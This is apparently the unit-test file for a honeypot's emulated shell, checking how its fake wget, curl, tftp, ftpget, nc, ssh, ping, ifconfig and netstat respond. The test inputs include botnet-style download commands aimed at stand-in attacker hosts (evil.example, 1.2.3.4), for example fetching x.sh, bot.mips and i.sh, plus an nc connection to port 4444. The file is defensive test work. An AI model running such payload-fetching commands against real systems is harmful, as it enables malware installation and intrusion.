/*
 * test_cmd_net.c - unit tests for the network programs (src/shell/cmd_net.c).
 *
 * Downloads: the URL each tool hands to sh_fetch (built as the tool builds
 * it), the exact failure output and exit status for each fetch result
 * (connection refused, unresolvable name, 404), and the OK path with a fake
 * fetch that returns a body: the file lands in the vfs with the body's bytes
 * and mode 0644, and the success output shows the real size.  The URL
 * parser (also fuzzed by fuzz/fuzz_cmd_net.c) gets its own cases.  The
 * machine's network (ifconfig, ip, route, netstat, ss, arp) must agree with
 * the session, the personality and /proc/net/dev.
 */
#include "cmd_fixture.h"
#include "shell/cmd_sys.h"
#include <time.h>

static void when(struct fx *f, char *out, size_t n)
{
    time_t t = (time_t)f->c.now_s;
    struct tm tm;
    gmtime_r(&t, &tm);
    strftime(out, n, "%Y-%m-%d %H:%M:%S", &tm);
}

/* ---- URL parsing --------------------------------------------------------------------- */

static void test_url_parse(void **state)
{
    struct sys_url u;
    char out[4096];
    assert_int_equal(sys_url_parse("http://1.2.3.4/x.sh", "http", &u), SYS_URL_OK);
    assert_string_equal(u.scheme, "http");
    assert_string_equal(u.host, "1.2.3.4");
    assert_int_equal(u.port, 80);
    assert_string_equal(u.path, "/x.sh");
    assert_int_equal(sys_url_parse("1.2.3.4:8080", "http", &u), SYS_URL_OK);
    assert_int_equal(u.port, 8080);
    assert_string_equal(u.path, "/");
    sys_url_format(&u, out, sizeof(out));
    assert_string_equal(out, "http://1.2.3.4:8080/");
    assert_int_equal(sys_url_parse("HTTPS://user:pw@Example.com/a?b=1#c", "http", &u), SYS_URL_OK);
    assert_string_equal(u.scheme, "https");
    assert_string_equal(u.user, "user");
    assert_string_equal(u.pass, "pw");
    assert_int_equal(u.port, 443);
    sys_url_format(&u, out, sizeof(out));
    assert_string_equal(out, "https://user:pw@Example.com/a?b=1#c");
    assert_int_equal(sys_url_parse("http://[::1]:81/", "http", &u), SYS_URL_OK);
    assert_true(u.ipv6);
    assert_string_equal(u.host, "::1");
    assert_int_equal(u.port, 81);
    assert_int_equal(sys_url_parse("http://h:0/", "http", &u), SYS_URL_BAD_PORT);
    assert_int_equal(sys_url_parse("http://h:99999/", "http", &u), SYS_URL_BAD_PORT);
    assert_int_equal(sys_url_parse("http://h:8x/", "http", &u), SYS_URL_BAD_PORT);
    assert_int_equal(sys_url_parse("http:///x", "http", &u), SYS_URL_NO_HOST);
    assert_int_equal(sys_url_parse("http://[::1/", "http", &u), SYS_URL_NO_HOST);
    assert_int_equal(sys_url_parse("ht tp://x/", "http", &u), SYS_URL_BAD_SCHEME);
    char big[600];
    memset(big, 'a', sizeof(big) - 1);
    big[sizeof(big) - 1] = '\0';
    assert_int_equal(sys_url_parse(big, "http", &u), SYS_URL_TOO_LONG);
    assert_true(sys_host_is_ip("10.0.0.1", false));
    assert_false(sys_host_is_ip("10.0.0", false));
    assert_false(sys_host_is_ip("10.0.0.256", false));
    assert_false(sys_host_is_ip("example.com", false));
    assert_true(sys_host_is_ip("fe80::1", true));
    char host[64];
    unsigned port;
    assert_true(sys_hostport_parse("1.2.3.4:23", host, sizeof(host), &port));
    assert_string_equal(host, "1.2.3.4");
    assert_int_equal(port, 23);
    assert_false(sys_hostport_parse("1.2.3.4", host, sizeof(host), &port));
    assert_false(sys_hostport_parse(":23", host, sizeof(host), &port));
}

/* ---- wget ------------------------------------------------------------------------------ */

static void test_wget_gnu_fail(void **state)
{
    struct fx *f = fx_new("debian", true);
    char t[64], want[1024];
    when(f, t, sizeof(t));
    assert_int_equal(fx_run(f, "wget http://1.2.3.4/x.sh", NULL), 4);
    snprintf(want, sizeof(want), "--%s--  http://1.2.3.4/x.sh\nConnecting to 1.2.3.4:80... failed: Connection refused.\n", t);
    assert_string_equal(fx_err(f), want);
    assert_string_equal(fx_out(f), "");
    assert_int_equal(f->nfetch, 1);
    assert_string_equal(f->fetch_tool[0], "wget");
    assert_string_equal(f->fetch_url[0], "http://1.2.3.4/x.sh");
    assert_string_equal(f->fetch_dest[0], "/root/x.sh");
    assert_null(fx_file(f, "/root/x.sh"));
    assert_int_equal(fx_run(f, "wget -q 1.2.3.4:81/bins.sh", NULL), 4);
    assert_string_equal(fx_err(f), "");
    assert_string_equal(f->fetch_url[1], "http://1.2.3.4:81/bins.sh");
    assert_int_equal(fx_run(f, "wget http://evil.example/x", NULL), 4);
    snprintf(want, sizeof(want), "--%s--  http://evil.example/x\n"
                                 "Resolving evil.example (evil.example)... failed: Temporary failure in name resolution.\n"
                                 "wget: unable to resolve host address \xe2\x80\x98" "evil.example\xe2\x80\x99\n", t);
    assert_string_equal(fx_err(f), want);
    /* -O creates (truncates) its file before connecting, as GNU wget does */
    assert_int_equal(fx_run(f, "wget -O /tmp/.d http://1.2.3.4/d", NULL), 4);
    const char *d = fx_file(f, "/tmp/.d");
    assert_non_null(d);
    assert_string_equal(d, "");
    assert_int_equal(fx_run(f, "wget", NULL), 1);
    assert_string_equal(fx_err(f), "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n");
    f->fetch_result = SH_FETCH_NOT_FOUND;
    assert_int_equal(fx_run(f, "wget http://1.2.3.4/nf", NULL), 8);
    snprintf(want, sizeof(want), "--%s--  http://1.2.3.4/nf\nConnecting to 1.2.3.4:80... connected.\n"
                                 "HTTP request sent, awaiting response... 404 Not Found\n%s ERROR 404: Not Found.\n\n", t, t);
    assert_string_equal(fx_err(f), want);
    fx_free(f);
}

static void test_wget_gnu_ok(void **state)
{
    struct fx *f = fx_new("debian", true);
    static const char body[] = "#!/bin/sh\necho pwned\n";
    f->fetch_result = SH_FETCH_OK;
    f->fetch_body = body;
    f->fetch_len = sizeof(body) - 1;
    char t[64], want[2048];
    when(f, t, sizeof(t));
    assert_int_equal(fx_run(f, "wget http://1.2.3.4/x.sh", NULL), 0);
    const char *got = fx_file(f, "/root/x.sh");
    assert_non_null(got);
    assert_string_equal(got, body);
    struct sh_stat st;
    assert_int_equal(sh_vfs_stat(f->c.fs, "/root/x.sh", true, &st), 0);
    assert_int_equal(st.mode & 07777, 0644);
    assert_int_equal(st.size, sizeof(body) - 1);
    snprintf(want, sizeof(want), "--%s--  http://1.2.3.4/x.sh\nConnecting to 1.2.3.4:80... connected.\n"
                                 "HTTP request sent, awaiting response... 200 OK\nLength: 21 [application/octet-stream]\n"
                                 "Saving to: \xe2\x80\x98x.sh\xe2\x80\x99\n\n", t);
    assert_prefix(fx_err(f), want);
    snprintf(want, sizeof(want), "%s (", t);
    assert_non_null(strstr(fx_err(f), want));
    assert_non_null(strstr(fx_err(f), ") - \xe2\x80\x98x.sh\xe2\x80\x99 saved [21/21]\n\n"));
    /* a second download does not overwrite: x.sh.1 */
    assert_int_equal(fx_run(f, "wget http://1.2.3.4/x.sh", NULL), 0);
    assert_string_equal(f->fetch_dest[1], "/root/x.sh.1");
    assert_non_null(fx_file(f, "/root/x.sh.1"));
    assert_int_equal(fx_run(f, "wget -qO- http://1.2.3.4/x.sh", NULL), 0);
    assert_string_equal(fx_out(f), body);
    assert_string_equal(fx_err(f), "");
    assert_int_equal(fx_run(f, "wget -P /tmp http://1.2.3.4/y", NULL), 0);
    assert_non_null(fx_file(f, "/tmp/y"));
    /* a name that the capture pipeline fetched gets a stable address */
    assert_int_equal(fx_run(f, "wget http://cdn.example/z", NULL), 0);
    assert_non_null(strstr(fx_err(f), "Resolving cdn.example (cdn.example)... "));
    assert_non_null(strstr(fx_err(f), "Connecting to cdn.example (cdn.example)|"));
    fx_free(f);
}

static void test_wget_busybox(void **state)
{
    struct fx *f = fx_new("busybox", true);
    f->c.cwd = "/tmp";           /* the device's root file system is read-only: bots cd /tmp */
    assert_int_equal(fx_run(f, "wget http://1.2.3.4/mips", NULL), 1);
    assert_string_equal(fx_err(f), "Connecting to 1.2.3.4 (1.2.3.4:80)\nwget: can't connect to remote host (1.2.3.4): Connection refused\n");
    assert_int_equal(fx_run(f, "wget http://bad.example/mips", NULL), 1);
    assert_string_equal(fx_err(f), "wget: bad address 'bad.example'\n");
    f->fetch_result = SH_FETCH_OK;
    f->fetch_body = "\x7f" "ELF....";
    f->fetch_len = 8;
    assert_int_equal(fx_run(f, "wget http://1.2.3.4/mips", NULL), 0);
    assert_prefix(fx_err(f), "Connecting to 1.2.3.4 (1.2.3.4:80)\nmips                 100% |");
    const char *got = fx_file(f, "/tmp/mips");
    assert_non_null(got);
    assert_memory_equal(got, "\x7f" "ELF....", 8);
    /* busybox wget refuses to overwrite without -O */
    assert_int_equal(fx_run(f, "wget http://1.2.3.4/mips", NULL), 1);
    assert_string_equal(fx_err(f), "Connecting to 1.2.3.4 (1.2.3.4:80)\nwget: can't open 'mips': File exists\n");
    assert_int_equal(fx_run(f, "wget -O /tmp/m http://1.2.3.4/mips", NULL), 0);
    assert_non_null(fx_file(f, "/tmp/m"));
    f->c.cwd = "/";
    assert_int_equal(fx_run(f, "wget http://1.2.3.4/mips", NULL), 1);
    assert_string_equal(fx_err(f), "Connecting to 1.2.3.4 (1.2.3.4:80)\nwget: can't open 'mips': Read-only file system\n");
    fx_free(f);
}

/* ---- curl ------------------------------------------------------------------------------- */

static void test_curl(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "curl http://1.2.3.4/x", NULL), 7);
    assert_string_equal(fx_err(f), "curl: (7) Failed to connect to 1.2.3.4 port 80 after 0 ms: Couldn't connect to server\n");
    assert_string_equal(f->fetch_url[0], "http://1.2.3.4/x");
    assert_string_equal(f->fetch_dest[0], "(stdout)");
    assert_int_equal(fx_run(f, "curl -fsSL http://evil.example/i.sh", NULL), 6);
    assert_string_equal(fx_err(f), "curl: (6) Could not resolve host: evil.example\n");
    assert_int_equal(fx_run(f, "curl -s http://1.2.3.4/x", NULL), 7);
    assert_string_equal(fx_err(f), "");
    assert_int_equal(fx_run(f, "curl", NULL), 2);
    assert_string_equal(fx_err(f), "curl: no URL specified!\ncurl: try 'curl --help' or 'curl --manual' for more information\n");
    assert_int_equal(fx_run(f, "curl -O http://1.2.3.4/", NULL), 23);
    assert_string_equal(fx_err(f), "curl: Remote file name has no length!\ncurl: (23) Failed writing received data to disk/application\n");
    assert_int_equal(fx_run(f, "curl gopher://1.2.3.4/", NULL), 1);
    assert_string_equal(fx_err(f), "curl: (1) Protocol \"gopher\" not supported or disabled in libcurl\n");
    f->fetch_result = SH_FETCH_OK;
    f->fetch_body = "abc";
    f->fetch_len = 3;
    assert_int_equal(fx_run(f, "curl -s http://1.2.3.4/x", NULL), 0);
    assert_string_equal(fx_out(f), "abc");
    assert_int_equal(fx_run(f, "curl -o /tmp/c http://1.2.3.4/x", NULL), 0);
    assert_string_equal(fx_file(f, "/tmp/c"), "abc");
    assert_prefix(fx_err(f), "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n");
    assert_int_equal(fx_run(f, "curl -sO http://1.2.3.4/k", NULL), 0);
    assert_string_equal(fx_file(f, "/root/k"), "abc");
    f->fetch_result = SH_FETCH_NOT_FOUND;
    assert_int_equal(fx_run(f, "curl -sf http://1.2.3.4/x", NULL), 22);
    assert_string_equal(fx_err(f), "");
    assert_int_equal(fx_run(f, "curl -sSf http://1.2.3.4/x", NULL), 22);
    assert_string_equal(fx_err(f), "curl: (22) The requested URL returned error: 404\n");
    fx_free(f);
}

/* ---- tftp, ftpget, nc, ssh, telnet ---------------------------------------------------------- */

static void test_tftp_ftp(void **state)
{
    struct fx *f = fx_new("busybox", true);
    f->c.cwd = "/tmp";
    assert_int_equal(fx_run(f, "tftp -g -r bot.mips -l .b 1.2.3.4", NULL), 1);
    assert_string_equal(fx_err(f), "tftp: timeout\n");
    assert_string_equal(f->fetch_tool[0], "tftp");
    assert_string_equal(f->fetch_url[0], "tftp://1.2.3.4:69/bot.mips");
    assert_string_equal(f->fetch_dest[0], "/tmp/.b");
    assert_int_equal(fx_run(f, "tftp 1.2.3.4 -c get bot.mips", NULL), 1);
    assert_prefix(fx_err(f), "tftp: invalid option -- 'c'\nBusyBox v");
    assert_int_equal(fx_run(f, "ftpget -u anon -p pw 1.2.3.4 .f bins/f.arm", NULL), 1);
    assert_string_equal(fx_err(f), "ftpget: can't connect to remote host (1.2.3.4): Connection refused\n");
    assert_string_equal(f->fetch_url[1], "ftp://anon:pw@1.2.3.4/bins/f.arm");
    assert_string_equal(f->fetch_dest[1], "/tmp/.f");
    f->fetch_result = SH_FETCH_OK;
    f->fetch_body = "BODY";
    f->fetch_len = 4;
    assert_int_equal(fx_run(f, "tftp -g -r x 1.2.3.4 6969", NULL), 0);
    assert_string_equal(f->fetch_url[2], "tftp://1.2.3.4:6969/x");
    assert_string_equal(fx_file(f, "/tmp/x"), "BODY");
    assert_int_equal(fx_run(f, "ftpget 1.2.3.4 y y", NULL), 0);
    assert_string_equal(f->fetch_url[3], "ftp://1.2.3.4/y");
    assert_string_equal(fx_file(f, "/tmp/y"), "BODY");
    fx_free(f);
}

static void test_nc_ssh(void **state)
{
    struct fx *f = fx_new("busybox", true);
    assert_int_equal(fx_run(f, "nc 1.2.3.4 4444", NULL), 1);
    assert_string_equal(fx_err(f), "nc: can't connect to remote host (1.2.3.4): Connection refused\n");
    assert_string_equal(f->fetch_url[0], "tcp://1.2.3.4:4444/");
    assert_int_equal(fx_run(f, "telnet 1.2.3.4", NULL), 1);
    assert_string_equal(fx_err(f), "telnet: can't connect to remote host (1.2.3.4): Connection refused\n");
    fx_free(f);
    f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "ssh root@1.2.3.4", NULL), 255);
    assert_string_equal(fx_err(f), "ssh: connect to host 1.2.3.4 port 22: Connection refused\n");
    assert_int_equal(fx_run(f, "ssh -p 2222 x.example", NULL), 255);
    assert_string_equal(fx_err(f), "ssh: Could not resolve hostname x.example: Temporary failure in name resolution\n");
    assert_int_equal(fx_run(f, "nc 1.2.3.4 80", NULL), 1);
    assert_string_equal(fx_err(f), "nc: connect to 1.2.3.4 port 80 (tcp) failed: Connection refused\n");
    fx_free(f);
}

static void test_ping(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "ping -c 2 8.8.8.8", NULL), 1);
    assert_prefix(fx_out(f), "PING 8.8.8.8 (8.8.8.8) 56(84) bytes of data.\n\n--- 8.8.8.8 ping statistics ---\n"
                             "2 packets transmitted, 0 received, 100% packet loss, time ");
    assert_int_equal(fx_run(f, "ping -c 1 127.0.0.1", NULL), 0);
    assert_prefix(fx_out(f), "PING 127.0.0.1 (127.0.0.1) 56(84) bytes of data.\n64 bytes from 127.0.0.1: icmp_seq=1 ttl=64 time=0.");
    assert_non_null(strstr(fx_out(f), "1 packets transmitted, 1 received, 0% packet loss"));
    assert_int_equal(fx_run(f, "ping x.example", NULL), 2);
    assert_string_equal(fx_err(f), "ping: x.example: Temporary failure in name resolution\n");
    assert_int_equal(fx_run(f, "ping", NULL), 1);
    assert_string_equal(fx_err(f), "ping: usage error: Destination address required\n");
    fx_free(f);
    f = fx_new("busybox", true);
    assert_int_equal(fx_run(f, "ping -c 1 8.8.8.8", NULL), 1);
    assert_string_equal(fx_out(f), "PING 8.8.8.8 (8.8.8.8): 56 data bytes\n\n--- 8.8.8.8 ping statistics ---\n"
                                   "1 packets transmitted, 0 packets received, 100% packet loss\n");
    fx_free(f);
}

/* ---- the machine's network ------------------------------------------------------------------- */

static void test_ifconfig_ip(void **state)
{
    struct fx *f = fx_new("debian", true);
    const struct hp_persona *p = f->c.persona;
    char mac[18], want[256];
    snprintf(mac, sizeof(mac), "%02x:%02x:%02x:%02x:%02x:%02x", p->mac[0], p->mac[1], p->mac[2], p->mac[3], p->mac[4],
             p->mac[5]);
    assert_int_equal(fx_run(f, "ifconfig", NULL), 0);
    snprintf(want, sizeof(want), "%s: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n"
                                 "        inet 10.20.0.5  netmask 255.255.255.0  broadcast 10.20.0.255\n", p->ifname);
    assert_prefix(fx_out(f), want);
    snprintf(want, sizeof(want), "        ether %s  txqueuelen 1000  (Ethernet)\n", mac);
    assert_non_null(strstr(fx_out(f), want));
    /* RX bytes agree with /proc/net/dev */
    const char *dev = fx_file(f, "/proc/net/dev");
    if (dev) {
        char key[32];
        snprintf(key, sizeof(key), "%s: ", p->ifname);
        const char *l = strstr(dev, key);
        assert_non_null(l);
        unsigned long long rx = strtoull(l + strlen(key), NULL, 10);
        snprintf(want, sizeof(want), "RX packets ");
        const char *r = strstr(fx_out(f), "bytes ");
        assert_non_null(r);
        assert_int_equal(strtoull(r + 6, NULL, 10), rx);
    }
    assert_int_equal(fx_run(f, "ifconfig eth9", NULL), 1);
    assert_string_equal(fx_err(f), "eth9: error fetching interface information: Device not found\n");
    assert_int_equal(fx_run(f, "ip a", NULL), 0);
    assert_prefix(fx_out(f), "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000\n");
    snprintf(want, sizeof(want), "    link/ether %s brd ff:ff:ff:ff:ff:ff\n    inet 10.20.0.5/24 brd 10.20.0.255 scope global dynamic %s\n",
             mac, p->ifname);
    assert_non_null(strstr(fx_out(f), want));
    assert_int_equal(fx_run(f, "ip r", NULL), 0);
    snprintf(want, sizeof(want), "default via 10.20.0.1 dev %s \n10.20.0.0/24 dev %s proto kernel scope link src 10.20.0.5 \n",
             p->ifname, p->ifname);
    assert_string_equal(fx_out(f), want);
    assert_int_equal(fx_run(f, "ip foo", NULL), 255);
    assert_string_equal(fx_err(f), "Object \"foo\" is unknown, try \"ip help\".\n");
    assert_int_equal(fx_run(f, "route -n", NULL), 0);
    assert_prefix(fx_out(f), "Kernel IP routing table\nDestination     Gateway         Genmask         Flags Metric Ref    Use Iface\n"
                             "0.0.0.0         10.20.0.1       0.0.0.0         UG    0      0        0 ");
    fx_free(f);
    f = fx_new("busybox", true);
    p = f->c.persona;
    assert_int_equal(fx_run(f, "ifconfig", NULL), 0);
    snprintf(want, sizeof(want), "%-10sLink encap:Ethernet  HWaddr %02X:%02X:%02X:%02X:%02X:%02X  \n", p->ifname, p->mac[0],
             p->mac[1], p->mac[2], p->mac[3], p->mac[4], p->mac[5]);
    assert_prefix(fx_out(f), want);
    fx_free(f);
}

static void test_netstat_ss(void **state)
{
    struct fx *f = fx_new("debian", true);
    assert_int_equal(fx_run(f, "netstat -tlpn", NULL), 0);
    assert_prefix(fx_out(f), "Active Internet connections (only servers)\n"
                             "Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name    \n"
                             "tcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN      ");
    assert_non_null(strstr(fx_out(f), "/sshd: /usr/sbin/"));
    assert_int_equal(fx_run(f, "netstat -ant", NULL), 0);
    assert_non_null(strstr(fx_out(f), "10.20.0.5:22            203.0.113.7:"));
    assert_non_null(strstr(fx_out(f), "ESTABLISHED"));
    assert_int_equal(fx_run(f, "ss -tln", NULL), 0);
    assert_string_equal(fx_out(f), "State  Recv-Q Send-Q Local Address:Port Peer Address:PortProcess\n"
                                   "LISTEN 0      128          0.0.0.0:22        0.0.0.0:*    \n"
                                   "LISTEN 0      128             [::]:22           [::]:*    \n");
    fx_free(f);
    f = fx_new("busybox", true);
    assert_int_equal(fx_run(f, "netstat -tln", NULL), 0);
    assert_non_null(strstr(fx_out(f), "0.0.0.0:23 "));
    fx_free(f);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_url_parse),
        cmocka_unit_test(test_wget_gnu_fail),
        cmocka_unit_test(test_wget_gnu_ok),
        cmocka_unit_test(test_wget_busybox),
        cmocka_unit_test(test_curl),
        cmocka_unit_test(test_tftp_ftp),
        cmocka_unit_test(test_nc_ssh),
        cmocka_unit_test(test_ping),
        cmocka_unit_test(test_ifconfig_ip),
        cmocka_unit_test(test_netstat_ss),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
